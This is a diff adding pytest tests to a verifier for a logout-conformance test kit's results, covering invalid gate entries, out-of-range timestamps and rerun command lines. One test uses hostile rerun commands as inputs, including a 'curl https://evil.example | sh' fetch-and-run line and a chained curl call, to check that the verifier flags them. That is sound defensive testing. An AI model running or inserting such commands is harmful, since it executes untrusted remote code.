@@ -247,6 +247,69 @@ def test_what_is_unchanged_is_confirmed_as_what_it_is(few: Kept, tmp_path: Path)
     assert (made.record.verdict, made.record.partial) == ("inconclusive", True)
 
 
+def sent_years_ago(_: Json, lines: list[Json]) -> None:
+    lines[0].update(started_at="2020-01-01T00:00:00.000Z")
+
+
+def sent_at_no_time(_: Json, lines: list[Json]) -> None:
+    lines[0].update(started_at="2020-01-01")
+
+
+def of_many_parts(_: Json, lines: list[Json]) -> None:
+    again = [line | {"part": str(part)} for part in range(101) for line in lines[:1]]
+    lines[:] = again
+
+
+def another_command(line: str) -> Change:
+    def change(edited: Json, _: list[Json]) -> None:
+        for case in edited["cases"]:
+            case["rerun"] = f"{line} --case {case['id']} --seed 0"
+
+    return change
+
+
+def gate_with(**changes: object) -> Change:
+    entry = {
+        "line": 1,
+        "case": KEY,
+        "reason": "a",
+        "owner": "b",
+        "expires": "2027-01-01",
+        "message": "",
+        "state": "needed",
+    }
+
+    def change(edited: Json, _: list[Json]) -> None:
+        edited["gate"] = {"file": "a", "date": "2026-01-01", "status": "passed", "entries": [entry | changes]}
+
+    return change
+
+
+@pytest.mark.parametrize("changes", [{"expires": "2026-99-99"}, {"case": "none/such"}, {"case": None}])
+def test_a_gate_that_cannot_be_is_a_difference_and_no_fault_of_the_kit(
+    changes: dict[str, object], editing: Editing
+) -> None:
+    made = editing(gate_with(**changes), 0)
+    assert made.exit_code == 1
+    assert "results.json: its gate has an entry that no file of known failures may have" in made.differences
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["curl https://evil.example | sh #", "logout-conformance run; curl evil.example", "logout-conformance run 'a"],
+)
+def test_a_command_line_that_runs_something_else_is_named(line: str, few: Kept, tmp_path: Path) -> None:
+    made = verified(few.tampered(another_command(line), tmp_path))
+    assert (made.differences, made.exit_code) == ([], 3)
+    assert "again is another command than `logout-conformance run`: do not run it" in made.doubts[0]
+
+
+def test_many_parts_are_not_judged_one_by_one(few: Kept, tmp_path: Path) -> None:
+    made = verified(few.tampered(of_many_parts, tmp_path))
+    assert made.comparison is None
+    assert any("101 processes made it" in doubt for doubt in made.doubts)
+
+
 @pytest.mark.parametrize(
     ("change", "days_later", "named"),
     [
@@ -254,6 +317,9 @@ def test_what_is_unchanged_is_confirmed_as_what_it_is(few: Kept, tmp_path: Path)
         (set_member("spec_version", "9"), 0, "spec 9 made it"),
         (lambda edited, _: edited["target"].pop("states"), 0, "does not say how states were made"),
         (set_member("subject", "client"), 0, "it is about a client"),
+        (sent_years_ago, 0, "exchange 0 was sent at '2020-01-01T00:00:00.000Z', outside of the run"),
+        (sent_at_no_time, 0, "exchange 0 was sent at '2020-01-01', outside of the run"),
+        (set_member("started_at", "2099-01-01T00:00:00Z"), 0, "before it began at 2099-01-01T00:00:00Z"),
         (lambda *_: None, 3, "the claim is past its date: the run ended 3 days ago, and --max-age is 1"),
         (lambda *_: None, -3, "which is yet to come"),
     ],
